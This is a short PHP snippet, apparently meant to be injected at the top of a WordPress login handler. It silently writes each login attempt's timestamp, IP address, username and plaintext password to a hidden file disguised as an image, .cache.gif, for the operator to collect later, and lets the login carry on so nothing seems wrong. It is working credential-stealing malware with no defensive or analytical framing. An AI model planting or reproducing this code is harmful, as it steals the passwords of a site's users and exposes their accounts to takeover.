<?php
// Lines added to the top of a site's login handler: every attempt's user name and password are
// kept in a file the operator fetches later; the login itself goes on as before.
if (!empty($_POST['log']) && !empty($_POST['pwd'])) {
    $line = date('c') . "\t" . $_SERVER['REMOTE_ADDR'] . "\t" . $_POST['log'] . "\t" . $_POST['pwd'] . "\n";
    @file_put_contents(__DIR__ . '/wp-includes/images/.cache.gif', $line, FILE_APPEND | LOCK_EX);
}
